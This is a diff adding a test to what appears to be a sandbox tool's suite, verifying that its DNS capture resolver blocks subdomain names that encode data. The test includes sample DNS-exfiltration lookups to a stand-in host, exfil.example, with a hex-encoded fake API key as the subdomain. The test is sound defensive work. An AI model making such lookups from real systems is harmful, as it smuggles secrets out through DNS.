@@ -864,6 +864,26 @@ for resolver in ("8.8.8.8", "10.255.255.53", "192.0.2.53"):
             if host_dns is not None:
                 host_dns.close()
 
+    def test_capture_resolver_refuses_names_that_carry_data(self):
+        # Issue 16: "<hex of a secret>.exfil.example" is NXDOMAIN at the lookup (nothing leaves
+        # the jail either way); --dns-allow NAME resolves one such name, and only that one.
+        self.require_capture()
+        hex_name = "7365637265745f6170695f6b65795f3132333435.exfil.example"
+        b32_name = "jbswy3dpehpk3pxp.exfil.example"
+        r = self.jail(f"getent ahostsv4 {hex_name}; echo hex=$?; getent ahostsv4 {b32_name};"
+                      f" echo b32=$?; getent ahostsv4 api.example.com | head -1",
+                      "--capture", "--dns-allow", b32_name.upper())
+        self.assertEqual(r.returncode, 0, r.stderr)
+        lines = r.stdout.splitlines()
+        self.assertIn("hex=2", lines)  # getent: not found
+        self.assertIn("b32=0", lines)
+        self.assertTrue(any(l.endswith(b32_name) and l.startswith("198.18.") for l in lines),
+                        r.stdout)
+        self.assertTrue(any(l.endswith("api.example.com") for l in lines), r.stdout)
+        # The warning names the registrable part and why, never the labels that carry data.
+        self.assertIn("looks like it carries data (hex label)", r.stderr)
+        self.assertNotIn("7365637265745f", r.stderr)
+
     def test_capture_leaves_udp_and_icmp_without_a_way_out(self):
         self.require_capture()
         host_udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
